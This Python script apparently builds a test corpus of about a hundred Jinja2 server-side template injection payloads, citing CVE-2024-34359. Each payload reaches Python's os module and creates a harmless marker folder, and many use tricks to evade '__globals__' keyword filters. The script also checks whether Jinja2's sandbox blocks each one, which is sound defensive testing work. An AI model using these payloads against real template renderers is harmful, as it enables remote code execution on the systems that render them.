"""Writes the templates of hostile/ that really run: each makes an empty folder when plain Jinja2 renders it, as programs without a
sandbox do (CVE-2024-34359). One that does not run is not written. Needs `pip install jinja2==3.1.6`; run it in a folder of no value.
"""

import os
from pathlib import Path

import jinja2
from jinja2.sandbox import ImmutableSandboxedEnvironment

HOSTILE = Path(__file__).resolve().parent / "hostile"
M = "/tmp/template-mark"

CASES = {
    'globals-of-lipsum': "{{ lipsum.__globals__['os'].mkdir('%s') }}"%M,
    'self-init': "{{ self.__init__.__globals__.__builtins__.__import__('os').mkdir('%s') }}"%M,
    'subclasses': "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').mkdir('"+M+"') }}{% endif %}{% endfor %}",
    'item': "{{ lipsum['__globals__']['os'].mkdir('%s') }}"%M,
    'joined-tilde': "{{ lipsum['__glo' ~ 'bals__']['os'].mkdir('%s') }}"%M,
    'joined-plus': "{{ lipsum['__glo' + 'bals__']['os'].mkdir('%s') }}"%M,
    'adjacent': "{{ lipsum['__glo' 'bals__']['os'].mkdir('%s') }}"%M,
    'percent': "{{ lipsum['%%sglobals%%s' %% ('__','__')]['os'].mkdir('%s') }}"%M,
    'percent-c': "{{ lipsum['%%c%%cglobals%%c%%c' %% (95,95,95,95)]['os'].mkdir('%s') }}"%M,
    'format-method': "{{ lipsum['{}{}'.format('__glo','bals__')]['os'].mkdir('%s') }}"%M,
    'format-filter': "{{ lipsum['%%sbals__'|format('__glo')]['os'].mkdir('%s') }}"%M,
    'join-filter': "{{ lipsum[['__glo','bals__']|join]['os'].mkdir('%s') }}"%M,
    'join-method': "{{ lipsum[''.join(['__glo','bals__'])]['os'].mkdir('%s') }}"%M,
    'reverse': "{{ lipsum['__slabolg__'[::-1]]['os'].mkdir('%s') }}"%M,
    'reverse-filter': "{{ lipsum['__slabolg__'|reverse]['os'].mkdir('%s') }}"%M,
    'lower': "{{ lipsum['__GLOBALS__'|lower]['os'].mkdir('%s') }}"%M,
    'replace': "{{ lipsum['xxglobalsxx'|replace('x','_')]['os'].mkdir('%s') }}"%M,
    'hex': r"{{ lipsum['\x5f\x5fglobals\x5f\x5f']['os'].mkdir('%s') }}"%M,
    'octal': r"{{ lipsum['\137\137globals\137\137']['os'].mkdir('%s') }}"%M,
    'unicode8': r"{{ lipsum['\U0000005f\U0000005fglobals__']['os'].mkdir('%s') }}"%M,
    'named-character': r"{{ lipsum['\N{LOW LINE}\N{LOW LINE}globals__']['os'].mkdir('%s') }}"%M,
    'continued': "{{ lipsum['__glo\\\nbals__']['os'].mkdir('%s') }}"%M,
    'attr-filter': "{{ (lipsum|attr('__globals__'))['os'].mkdir('%s') }}"%M,
    'attr-called': "{{ lipsum|attr('__globals__')|attr('get')('os')|attr('mkdir')('%s') }}"%M,
    'attr-hex': r"{{ (lipsum|attr('\x5f_globals__'))['os'].mkdir('%s') }}"%M,
    'map-attribute': "{{ ([lipsum]|map(attribute='__globals__')|first)['os'].mkdir('%s') }}"%M,
    'map-attr': "{{ ([lipsum]|map('attr','__globals__')|first)['os'].mkdir('%s') }}"%M,
    'map-dotted': "{{ ([cycler]|map(attribute='__init__.__globals__')|first)['os'].mkdir('%s') }}"%M,
    'map-by-variable': "{% set f = 'attr' %}{{ ([lipsum]|map(f,'__globals__')|first)['os'].mkdir('"+M+"') }}",
    'sort-attribute': "{{ ([lipsum]|groupby('__globals__.os.mkdir.__name__')) and lipsum.__globals__.os.mkdir('%s') }}"%M,
    'dict-key': "{{ lipsum[dict(__globals__=1)|first]['os'].mkdir('%s') }}"%M,
    'dict-join': "{{ lipsum[dict(__glo=1,bals__=1)|join]['os'].mkdir('%s') }}"%M,
    'set-block': "{% set k %}__glo{% endset %}{% set l %}bals__{% endset %}{{ lipsum[k ~ l]['os'].mkdir('"+M+"') }}",
    'set': "{% set k = '__glo' %}{% set k = k ~ 'bals__' %}{{ lipsum[k]['os'].mkdir('"+M+"') }}",
    'namespace': "{% set ns = namespace(k='') %}{% for c in ['__','glo','bals','__'] %}{% set ns.k = ns.k ~ c %}{% endfor %}{{ lipsum[ns.k]['os'].mkdir('"+M+"') }}",
    'namespace-alias': "{% set ns = namespace(k='a') %}{% macro m(n) %}{% set n.k = ['_','_globals_','_']|join %}{% endmacro %}{{ m(ns) }}{{ lipsum[ns.k]['os'].mkdir('"+M+"') }}",
    'list-append': "{% set l = [] %}{% set _ = l.append('_' ) %}{% set _ = l.append('_globals_') %}{% set _ = l.append('_') %}{{ lipsum[l|join]['os'].mkdir('"+M+"') }}",
    'macro-argument': "{% macro m(o,k) %}{{ o['_' ~ k ~ '_']['os'].mkdir('"+M+"') }}{% endmacro %}{{ m(lipsum, '_globals_') }}",
    'macro-result': "{% macro m() %}{{ '_' }}{{ '_globals_' }}{{ '_' }}{% endmacro %}{{ lipsum[m()]['os'].mkdir('"+M+"') }}",
    'macro-renamed': "{% macro m(k) %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endmacro %}{% set f = m %}{{ f(['_','_globals_','_']|join) }}",
    'caller': "{% macro m() %}{{ lipsum[caller()]['os'].mkdir('"+M+"') }}{% endmacro %}{% call m() %}_{{ '' }}_globals_{{ '' }}_{% endcall %}",
    'filter-block': "{% set k %}{% filter lower %}_{{ '' }}_GLOBALS_{{ '' }}_{% endfilter %}{% endset %}{{ lipsum[k]['os'].mkdir('"+M+"') }}",
    'with': "{% with k = ['_','_globals_','_']|join %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endwith %}",
    'loop-item': "{% for k in [['_','_globals_','_']|join] %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endfor %}",
    'previous-item': "{% for k in [['_','_globals_','_']|join, 1] %}{% if loop.index0 == 1 %}{{ lipsum[loop.previtem]['os'].mkdir('"+M+"') }}{% endif %}{% endfor %}",
    'character-picking': "{% set u = (lipsum|string)[18] %}{{ lipsum[u ~ u ~ 'globals' ~ u ~ u]['os'].mkdir('"+M+"') }}",
    'special-token': "{{ lipsum[bos_token]['os'].mkdir('%s') }}"%M,
    'special-token-loop': "{% for c in [eos_token] %}{{ lipsum[c]['os'].mkdir('"+M+"') }}{% endfor %}",
    'generator-frame': "{{ (['a']|map('upper')).gi_frame.f_builtins['__import__']('os').mkdir('%s') }}"%M,
    'generator-frame-2': "{{ (['a']|map('upper')).gi_frame.f_builtins['_' ~ '_import_' ~ '_']('os').mkdir('%s') }}"%M,
    'mro': "{% for c in dict.mro()[1]['_' ~ '_subclasses_' ~ '_']() %}{% if 'catch_warnings' in c|string %}{{ c()['_module']['_'~'_builtins_'~'_']['_'~'_import_'~'_']('os').mkdir('"+M+"') }}{% endif %}{% endfor %}",
    'long-comment': "{# "+"x" * 2000+" #}{{ lipsum.__globals__['os'].mkdir('"+M+"') }}",
    'raw-space': "{% raw %}{%\u00a0endraw %}{{ lipsum.__globals__['os'].mkdir('"+M+"') }}{% raw %}{% endraw %}",
    'whitespace': "{{-\n\n lipsum\n.\n__globals__\n [ 'os' ] . mkdir ( '"+M+"' ) -}}",
    'print-statement': "{% print lipsum.__globals__['os'].mkdir('"+M+"') %}",
    'expression-tuple': "{{ 1, lipsum.__globals__['os'].mkdir('"+M+"') }}",
    'if-test': "{% if lipsum.__globals__['os'].mkdir('"+M+"') %}{% endif %}",
    'for-filter': "{% for a in [1] if lipsum.__globals__['os'].mkdir('"+M+"') %}{% endfor %}",
    'elif': "{% if false %}{% elif lipsum.__globals__['os'].mkdir('"+M+"') %}{% endif %}",
    'macro-default': "{% macro m(a=lipsum.__globals__['os'].mkdir('"+M+"')) %}{{ a }}{% endmacro %}{{ m() }}",
    'test-argument': "{{ 1 is sameas(lipsum.__globals__['os'].mkdir('"+M+"')) }}",
    'slice-bound': "{{ 'a'[lipsum.__globals__['os'].mkdir('"+M+"'):] }}",
    'autoescape': "{% autoescape lipsum.__globals__['os'].mkdir('"+M+"') %}{% endautoescape %}",
    'block': "{% block a %}{{ lipsum.__globals__['os'].mkdir('"+M+"') }}{% endblock %}",
    'ternary': "{{ 1 if lipsum.__globals__['os'].mkdir('"+M+"') else 2 }}",
    'data-text-split': "{{ lipsum['_.globals_'.split('.')|join('_')  ~ '_']['os'].mkdir('"+M+"') }}",
    'unpacked': "{% set a, b = '_', '_globals_' %}{{ lipsum[a ~ b ~ a]['os'].mkdir('"+M+"') }}",
    'zip-times': "{{ lipsum['_'*2 ~ 'globals' ~ '_'*2]['os'].mkdir('"+M+"') }}",
    'title': "{{ lipsum['__Globals__'|lower|trim]['os'].mkdir('"+M+"') }}",
    'urlencode': "{{ lipsum['%5F%5Fglobals'|urlencode|replace('%255F','_') ~ '_' ~ '_']['os'].mkdir('"+M+"') }}",
    'tojson': "{{ lipsum[('_' ~ '_globals_' ~ '_')|tojson|replace('\"','')]['os'].mkdir('"+M+"') }}",
    'cycler': "{% set c = cycler('_globals_') %}{{ lipsum['_' ~ c.next() ~ '_']['os'].mkdir('"+M+"') }}",
    'joiner': "{% set j = joiner('_globals_') %}{{ j() }}{{ lipsum['_' ~ j() ~ '_']['os'].mkdir('"+M+"') }}",
    'undefined-default': "{{ lipsum[nothing|default('_' ~ '_globals_' ~ '_')]['os'].mkdir('"+M+"') }}",
    'or': "{{ lipsum[nothing or ('_' ~ '_globals_' ~ '_')]['os'].mkdir('"+M+"') }}",
    'dictsort': "{{ lipsum[({'_':1}|dictsort|first|first) ~ '_globals_' ~ '_']['os'].mkdir('"+M+"') }}",
    'batch': "{{ lipsum[(['_','_globals_','_']|batch(3)|first)|join]['os'].mkdir('"+M+"') }}",
    'xmlattr': "{{ lipsum[({'_' ~ '_globals_' ~ '_':1}|items|first|first)]['os'].mkdir('"+M+"') }}",
    'map-get': "{{ lipsum[{'a':'_' ~ '_globals_' ~ '_'}.get('a')]['os'].mkdir('"+M+"') }}",
    'recursive-loop': "{% for k in ['upper'] recursive %}{{ lipsum[k]['os'].mkdir('"+M+"') if loop.depth0 else loop([cycler(['_','_globals_','_']|join).next()]) }}{% endfor %}",
    'join-by-keyword': "{{ lipsum[['','','globals','','']|join(d='_')]['os'].mkdir('"+M+"') }}",
    'special-token-percent': "{{ lipsum[pad_token % 95]['os'].mkdir('"+M+"') }}",
    'special-token-once': "{{ lipsum[bos_token * 1]['os'].mkdir('"+M+"') }}",
    'map-default': "{% set c = cycler(['_','_globals_','_']|join) %}{{ lipsum[messages|map(attribute='nothing', default=c.next())|first]['os'].mkdir('"+M+"') }}",
    'appended-message': "{% set c = cycler(['_','_globals_','_']|join) %}{% set x = messages.append(c.next()) %}{{ lipsum[messages[-1]]['os'].mkdir('"+M+"') }}",
    'appended-by-filter': "{% set c = cycler(['_','_globals_','_']|join) %}{% set x = (messages|attr('append'))(c.next()) %}{{ lipsum[messages[-1]]['os'].mkdir('"+M+"') }}",
    'appended-by-item': "{% set c = cycler(['_','_globals_','_']|join) %}{% set x = messages['append'](c.next()) %}{{ lipsum[messages[-1]]['os'].mkdir('"+M+"') }}",
    'said': "{{ lipsum[messages[1].content]['os'].mkdir('%s') }}"%M,
    'said-to-filter': "{{ (lipsum|attr(messages[1].content))['os'].mkdir('%s') }}"%M,
    'said-to-variable': "{%% set f = [lipsum]|first %%}{{ f[messages[1].content]['os'].mkdir('%s') }}"%M,
    'variable-arguments': "{% macro m() %}{{ lipsum[varargs[0]]['os'].mkdir('"+M+"') }}{% endmacro %}{{ m(cycler(['_','_globals_','_']|join).next()) }}",
    'keyword-arguments': "{% macro m() %}{{ lipsum[kwargs['k']]['os'].mkdir('"+M+"') }}{% endmacro %}{{ m(k=cycler(['_','_globals_','_']|join).next()) }}",
    'caller-argument': "{% macro m() %}{{ caller(cycler(['_','_globals_','_']|join).next()) }}{% endmacro %}{% call(k) m() %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endcall %}",
    'keyword-of-macro': "{% macro m(k) %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endmacro %}{{ m(k=cycler(['_','_globals_','_']|join).next()) }}",
    'splat-of-macro': "{% macro m(k) %}{{ lipsum[k]['os'].mkdir('"+M+"') }}{% endmacro %}{{ m(*[cycler(['_','_globals_','_']|join).next()]) }}",
    'namespace-item': "{% set ns = namespace(k=cycler(['_','_globals_','_']|join).next()) %}{{ lipsum[ns['k']]['os'].mkdir('"+M+"') }}",
    'namespace-by-filter': "{% set ns = namespace(k=cycler(['_','_globals_','_']|join).next()) %}{{ lipsum[ns|attr('k')]['os'].mkdir('"+M+"') }}",
    'namespace-mapped': "{% set ns = namespace(k=cycler(['_','_globals_','_']|join).next()) %}{{ lipsum[[ns]|map(attribute='k')|first]['os'].mkdir('"+M+"') }}",
    'namespace-grouped': "{% set ns = namespace(k=cycler(['_','_globals_','_']|join).next()) %}{{ lipsum[([ns]|groupby('k')|first)[0]]['os'].mkdir('"+M+"') }}",
    'loop-cycle': "{% set c = cycler(['_','_globals_','_']|join) %}{% for a in [1] %}{{ lipsum[loop.cycle(c.next())]['os'].mkdir('"+M+"') }}{% endfor %}",
    'loop-renamed': "{% for k in [cycler(['_','_globals_','_']|join).next(), 1] %}{% set l = loop %}{{ lipsum[l.previtem]['os'].mkdir('"+M+"') if loop.index0 }}{% endfor %}",
    'batch-filled': "{{ lipsum[([1]|batch(2, cycler(['_','_globals_','_']|join).next())|first)[1]]['os'].mkdir('"+M+"') }}",
    'get-default': "{{ lipsum[{}.get('a', cycler(['_','_globals_','_']|join).next())]['os'].mkdir('"+M+"') }}",
    'replace-count': "{{ lipsum['-globals-'.replace('-', '_' ~ '_', 2)]['os'].mkdir('"+M+"') }}",
    'block-call': "{% block a %}{{ ['_','_globals_','_']|join }}{% endblock %}{{ lipsum[self.a()]['os'].mkdir('"+M+"') }}",
    'map-attribute-of-map': "{{ lipsum[{'a':'_' ~ '_globals_' ~ '_'}.a]['os'].mkdir('"+M+"') }}",
    'expandtabs-hidden-as-data': "{{ lipsum['- - g'.replace('- ','_').replace('g','globals') ~ '_' ~ '_']['os'].mkdir('"+M+"') }}",
}
def given():
    return {"messages": [{"role": "user", "content": "hi"}, {"role": "user", "content": "__globals__"}], "bos_token": "__globals__", "eos_token": "__globals__", "pad_token": "__globals%c_"}


def runs(environment, template):
    if os.path.isdir(M):
        os.rmdir(M)
    try:
        environment.from_string(template).render(**given())
    except Exception:
        pass
    made = os.path.isdir(M)
    if made:
        os.rmdir(M)
    return made


def main():
    HOSTILE.mkdir(exist_ok=True)
    for name, template in CASES.items():
        if not runs(jinja2.Environment(trim_blocks=True, lstrip_blocks=True), template):
            raise SystemExit(f"{name} does not run")
        if runs(ImmutableSandboxedEnvironment(trim_blocks=True, lstrip_blocks=True), template):
            print(f"{name} runs in the sandbox too")
        (HOSTILE / f"{name}.jinja").write_text(template)


if __name__ == "__main__":
    main()
